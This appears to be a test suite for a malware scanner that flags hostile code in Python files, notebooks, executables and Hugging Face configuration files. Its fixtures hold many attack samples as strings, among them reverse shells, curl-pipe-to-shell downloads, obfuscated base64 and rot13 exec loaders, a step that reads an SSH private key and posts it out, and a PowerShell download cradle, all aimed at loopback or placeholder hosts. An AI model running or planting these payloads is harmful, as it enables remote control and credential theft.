"""Python source, notebooks, programs and the configuration of Hugging Face repositories."""

from __future__ import annotations

import base64
import json
import shutil
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assay.collect.scan.models.interface import Finding, Tier
from collect.scan.formats.looking import look, rules, tier

HIDDEN = base64.b64encode(b"import os; os.system('true')").decode()

HONEST_SOURCE = [
    "import torch\nfrom torch import nn\n\n"
    "class Model(nn.Module):\n    def forward(self, x):\n        return self.eval()(x)\n",
    "import subprocess\nout = subprocess.run(['nvidia-smi'], capture_output=True)\n",
    "import base64, io\nfrom PIL import Image\n\n"
    "def load(text):\n    return Image.open(io.BytesIO(base64.b64decode(text)))\n",
    "import base64, subprocess\naudio = base64.b64decode(request)\n"
    "subprocess.run(['ffmpeg', '-i', 'pipe:'], input=audio)\n",
    "import re\nPATTERN = re.compile(r'x+')\nVERSION = {}\nexec(open('version.py').read(), VERSION)\n",
    "import requests\nimage = requests.get('https://example.com/cat.png').content\n",
    "import os, importlib\n"
    "module = importlib.import_module('.' + name, __package__)\nos.makedirs('out', exist_ok=True)\n",
    "import pickle\nwith open('vocab.pkl', 'rb') as file:\n    vocab = pickle.load(file)\n",
    "import socket\nhost = socket.gethostname()\n",
    "import os\ntoken = os.path.expanduser('~/.cache/x')\n"
    "import requests\nrequests.get('https://example.com', timeout=3)\n",
]

ATTACKING_SOURCE = [
    f"import base64\nexec(base64.b64decode('{HIDDEN}'))\n",
    f"from base64 import b64decode as d\ne = exec\ne(d('{HIDDEN}'))\n",
    f"import base64\ncode = base64.b64decode('{HIDDEN}')\nexec(compile(code, 'x', 'exec'))\n",
    "import codecs\neval(codecs.decode('bf.flfgrz(\"gehr\")', 'rot13'))\n",
    "import zlib\nexec(zlib.decompress(blob))\n",
    "import marshal\nexec(marshal.loads(blob))\n",
    "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1/x').read())\n",
    "import requests\nr = requests.get('https://example.com/x')\nexec(r.text)\n",
    "__import__('os').system('true')\n",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
    "import builtins\ngetattr(builtins, 'exe' + 'c')(bytes.fromhex('70617373'))\n",
    "import os\nos.system('bash -i >& /dev/tcp/127.0.0.1/4444 0>&1')\n",
    "import subprocess as sp\nsp.Popen(['/bin/sh', '-i'])\n",
    "import subprocess\nsubprocess.run('nc -e /bin/sh 127.0.0.1 1', shell=True)\n",
    "import os\nos.system('curl http://127.0.0.1/x | sh')\n",
    "import os\nos.popen('echo aWQ= | base64 -d | sh')\n",
    "import subprocess\nsubprocess.call('powershell -enc aQBk', shell=True)\n",
    "import pty\npty.spawn('/bin/sh')\n",
    "import socket, os\ns = socket.socket()\ns.connect(('127.0.0.1', 1))\nos.dup2(s.fileno(), 0)\n",
    "import requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('http://127.0.0.1', data=key)\n",
    "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\n",
    "import os\nc = "
    "''.join(chr(x) for x in [99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 120, 124, 115, 104])\n"
    "os.system(c)\n",
    "import os\nos.system('hs|//:ptth lruc'[::-1])\n",
    "class M:\n    def __init__(self):\n        import base64\n        exec(base64.b64decode(self.payload))\n",
]


@pytest.mark.parametrize("source", HONEST_SOURCE)
def test_honest_source_is_code(source: str) -> None:
    name, found = look(source.encode(), "modeling.py")
    assert name == "python-source"
    assert tier(found) is Tier.CODE, found


@pytest.mark.parametrize("source", ATTACKING_SOURCE)
def test_attacks_in_source(source: str) -> None:
    _, found = look(source.encode(), "modeling.py")
    assert tier(found) is Tier.MALICIOUS, found
    assert "python/attack" in rules(found)


def test_a_pickle_in_the_source() -> None:
    for source in ("pickle.loads(b'cos\\ngetcwd\\n)R.')", "pickle.loads(base64.b64decode('Y29zCmdldGN3ZAopUi4='))"):
        _, found = look(f"import base64, pickle\n{source}\n".encode(), "modeling.py")
        assert tier(found) is Tier.MALICIOUS
        assert any(item.member == "pickle in line 2" for item in found)


def test_what_is_executed_is_looked_into() -> None:
    inner = base64.b64encode(b"import os\nos.system('nc -e /bin/sh 127.0.0.1 1')").decode()
    _, found = look(f"import base64\nexec(base64.b64decode('{inner}'))".encode(), "x.py")
    assert any("code executed in line 2" in item.message and "gives a shell" in item.message for item in found)


def test_calls_are_named() -> None:
    _, found = look(HONEST_SOURCE[1].encode(), "x.py")
    assert found[0].call == "subprocess.run(['nvidia-smi'])"
    assert "subprocess.run (line 2)" in found[0].message


def test_source_that_does_nothing_or_is_none() -> None:
    assert look(b'"""Package."""\n', "__init__.py")[1] == []
    assert tier(look(b"print 'python 2'\n", "old.py")[1]) is Tier.CODE
    assert tier(look(b"print 'x'\nexec(base64.b64decode('eA=='))\n", "old.py")[1]) is Tier.MALICIOUS
    assert tier(look(b"\0\0", "zero.py")[1]) is Tier.CODE
    assert tier(look(b"x = " + b"(" * 100_000, "deep.py")[1]) is Tier.CODE
    assert tier(look(b"x = " + b"-" * 50_000 + b"1", "deep.py")[1]) is Tier.CODE
    assert tier(look(b"x = '" + b"a" * (5 << 20) + b"'", "large.py")[1]) is Tier.CODE


def test_constants_that_would_fill_the_memory() -> None:
    text = f"a = '{'x' * 100_000}'\n"
    for more in (
        "exec(a.replace('x', a))",
        "exec(a.join(list(a)))",
        "exec([[y for y in a] for x in a])",
        "b = a + a\n" * 9000,
    ):
        assert tier(look((text + more).encode(), "x.py")[1]) is Tier.CODE


def notebook(*sources: str | list[str], outputs: list[Any] | None = None) -> bytes:
    cells = [{"cell_type": "code", "source": source, "metadata": {}, "outputs": outputs or []} for source in sources]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def test_honest_notebooks() -> None:
    html = [{"output_type": "display_data", "data": {"text/html": ["<table>", "</table>"], "text/plain": "x"}}]
    name, found = look(
        notebook("!pip install torch\nimport torch", ["%matplotlib inline\n", "x = 1"], "if x:\n    !ls", outputs=html),
        "train.ipynb",
    )
    assert name == "notebook"
    assert tier(found) is Tier.CODE
    assert "python/unparsed" not in rules(found)
    assert [item.call for item in found if item.rule == "notebook/shell"] == ["!pip install torch", "!ls"]


@pytest.mark.parametrize(
    "source",
    [
        "!bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
        "%%bash\necho aWQ= | base64 -d | bash",
        "out = !nc -e /bin/sh 127.0.0.1 1",
        "%system curl http://127.0.0.1/x | sh",
        ATTACKING_SOURCE[0],
        "%%time\n" + ATTACKING_SOURCE[0],
        "%load_ext x\n" + ATTACKING_SOURCE[1],
    ],
)
def test_attacks_in_notebooks(source: str) -> None:
    assert tier(look(notebook("x = 1", source), "train.ipynb")[1]) is Tier.MALICIOUS
    old = {"worksheets": [{"cells": [{"cell_type": "code", "input": source}]}], "nbformat": 3}
    assert tier(look(json.dumps(old).encode(), "train.ipynb")[1]) is Tier.MALICIOUS


def test_active_outputs_are_told_of() -> None:
    for data in (
        {"text/html": "<script src='http://x'></script>"},
        {"application/javascript": "alert(1)"},
        {"text/html": "<img src=x onerror=alert(1)>"},
    ):
        assert "notebook/active-content" in rules(look(notebook("x", outputs=[{"data": data}]), "a.ipynb")[1])
    assert tier(look(b'{"cells": [', "a.ipynb")[1]) is Tier.UNREADABLE


def test_this_machines_programs() -> None:
    with open(sys.executable, "rb") as file:
        data = file.read(100_000)
    name, found = look(data, "runtime/libfast.so")
    assert name == "executable"
    assert tier(found) is Tier.CODE
    for disguise in ("model.safetensors", "pytorch_model.pt", "config.json", "model.onnx", "weights.h5"):
        assert tier(look(data, disguise)[1]) is Tier.MALICIOUS


@pytest.mark.parametrize(
    "head",
    [
        b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(100),
        b"\xcf\xfa\xed\xfe" + bytes(60),
        b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60),
        b"\0asm\x01\0\0\0" + bytes(20),
        b"dex\n035\0" + bytes(60),
        b"MZqFpD='\nBIN" + bytes(60),
        b"#!/bin/sh\necho hello\n",
        b"!<arch>\n" + bytes(20),
    ],
)
def test_programs_are_code(head: bytes) -> None:
    name, found = look(head, "tool")
    assert name == "executable"
    assert tier(found) is Tier.CODE


def test_scripts_that_attack() -> None:
    assert tier(look(b"#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/1 0>&1\n", "run")[1]) is Tier.MALICIOUS
    assert tier(look(b"IEX (New-Object Net.WebClient).DownloadString('http://x')", "run.ps1")[1]) is Tier.MALICIOUS
    assert tier(look(b"#!/bin/sh\necho\n", "model.onnx")[1]) is Tier.MALICIOUS


def test_bytecode(tmp_path: Path) -> None:
    import py_compile

    (tmp_path / "a.py").write_text("import os\nos.system('true')\n")
    path = py_compile.compile(str(tmp_path / "a.py"), str(tmp_path / "a.pyc"), doraise=True)
    _, found = look(Path(path).read_bytes(), "a.pyc")
    assert tier(found) is Tier.CODE
    assert "system" in found[0].message
    shutil.copy(path, tmp_path / "b.bin")
    assert look((tmp_path / "b.bin").read_bytes(), "b.bin")[0] == "executable"


CONFIGURATIONS: list[tuple[str, Any, Tier, str | None]] = [
    ("config.json", {"model_type": "llama", "architectures": ["LlamaForCausalLM"]}, Tier.NONE, None),
    ("config.json", {"auto_map": {"AutoModel": "modeling_x.XModel"}}, Tier.CODE, "huggingface/auto-map"),
    (
        "sub/config.json",
        {"auto_map": {"AutoModel": "other/repo--modeling_x.XModel"}},
        Tier.CODE,
        "huggingface/auto-map",
    ),
    ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["tok.T", None]}}, Tier.CODE, "huggingface/auto-map"),
    ("any.json", {"a": {"auto_map": {"AutoModel": "m.X"}}}, Tier.CODE, "huggingface/auto-map"),
    ("config.json", {"trust_remote_code": True}, Tier.CODE, "huggingface/trust-remote-code"),
    ("config.json", {"trust_remote_code": False}, Tier.NONE, None),
    (
        "adapter_config.json",
        {"auto_mapping": {"base_model_class": "X", "parent_library": "transformers"}},
        Tier.NONE,
        None,
    ),
    ("modules.json", [{"idx": 0, "path": "", "type": "sentence_transformers.models.Transformer"}], Tier.NONE, None),
    ("modules.json", [{"idx": 0, "path": "", "type": "custom_st.Transformer"}], Tier.CODE, "huggingface/module"),
    (
        "modules.json",
        [{"path": "/etc", "type": "sentence_transformers.models.Dense"}],
        Tier.MALICIOUS,
        "huggingface/path",
    ),
    (
        "model_index.json",
        {
            "_class_name": "StableDiffusionPipeline",
            "unet": ["diffusers", "UNet2DConditionModel"],
            "safety_checker": [None, None],
        },
        Tier.NONE,
        None,
    ),
    ("model_index.json", {"_class_name": "X", "unet": ["my_unet", "Mine"]}, Tier.CODE, "huggingface/pipeline"),
    ("model_index.json", {"_class_name": "X", "unet": ["elsewhere", "Mine"]}, Tier.UNKNOWN, "huggingface/pipeline"),
    ("model.safetensors.index.json", {"weight_map": {"a": "model-00001-of-00002.safetensors"}}, Tier.NONE, None),
    ("model.safetensors.index.json", {"weight_map": {"a": "../../x.bin"}}, Tier.MALICIOUS, "huggingface/path"),
    ("config.json", {"x": {"_target_": "os.system", "command": "true"}}, Tier.MALICIOUS, "config/target"),
    ("config.json", {"x": {"_target_": "torch.nn.Linear"}}, Tier.NONE, None),
    (
        "tokenizer.json",
        {"pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}}, "model": {}},
        Tier.UNKNOWN,
        "tokenizer/regex-bomb",
    ),
    (
        "tokenizer.json",
        {
            "pre_tokenizer": {
                "type": "Split",
                "pattern": {
                    "Regex": r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}|"
                    r" ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"
                },
            },
            "model": {"vocab": {"a": 1}},
        },
        Tier.NONE,
        None,
    ),
]


@pytest.mark.parametrize(("path", "document", "wanted", "rule"), CONFIGURATIONS)
def test_configurations(path: str, document: Any, wanted: Tier, rule: str | None) -> None:
    name, found = look(json.dumps(document).encode(), path, {"my_unet.py": 1, "modeling_x.py": 1})
    assert name is not None
    assert tier(found) is wanted, found
    assert rules(found) == ({rule} if rule else set())


def test_the_file_that_is_imported_is_named() -> None:
    document = json.dumps({"auto_map": {"AutoModel": "nested.modeling_x.XModel"}}).encode()
    _, found = look(document, "sub/config.json", {"sub/nested/modeling_x.py": 1})
    assert "sub/nested/modeling_x.py" in found[0].message
    assert "not there" not in found[0].message
    assert "which is not there" in look(document, "config.json", {"other": 1})[1][0].message


def test_a_key_behind_much_else() -> None:
    document = {"padding": "x" * 200_000, "auto_map": {"AutoModel": "m.X"}, "more": "x" * 200_000}
    assert tier(look(json.dumps(document).encode(), "settings.json")[1]) is Tier.CODE
    escaped = json.dumps(document).replace("auto_map", "\\u0061uto_map").encode()
    assert tier(look(escaped, "settings.json")[1]) is Tier.CODE


def test_broken_configurations() -> None:
    for data in (b"{", b"{" * 200_000, b'{"a": ' + b"9" * 5000 + b"}", b'{"a": \xff}'):
        # The tokenizer's vocabulary is passed over, so a number in it may be of any length.
        for path in ("config.json", "tokenizer.json")[: 1 if b"99" in data else 2]:
            assert tier(look(data, path)[1]) is Tier.UNREADABLE, (data[:20], path)


SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
WORDS = [
    "exec",
    "eval",
    "(",
    ")",
    "import os",
    "os.system",
    "base64.b64decode",
    "'",
    "'aWQ='",
    "\n",
    "getattr",
    ",",
    "=",
    "x",
    "[::-1]",
    "chr",
    "for x in",
    "[1, 2]",
    "''.join",
    ".",
    "+",
    "f'{x}'",
    "\\x00",
    "lambda:",
    "class A:",
    "\t",
    "é",
    "**",
    "bytes.fromhex",
    "'zz'",
    "map(chr, ",
    "'{}'.format",
    "^",
    "1",
    "import a.b as c",
    "from . import x",
]


@SETTINGS
@given(st.lists(st.sampled_from(WORDS), max_size=25) | st.text(max_size=50))
def test_any_source_is_judged(parts: list[str] | str) -> None:
    source = "".join(parts)
    for data, path in ((source.encode(), "x.py"), (notebook(source), "x.ipynb"), (source.encode(), "x.sh")):
        for finding in look(data, path)[1]:
            assert isinstance(finding, Finding)
            assert finding.rule != "scan/failed", finding.message
            assert finding.message.isprintable()
            assert finding.call is None or finding.call.isprintable()
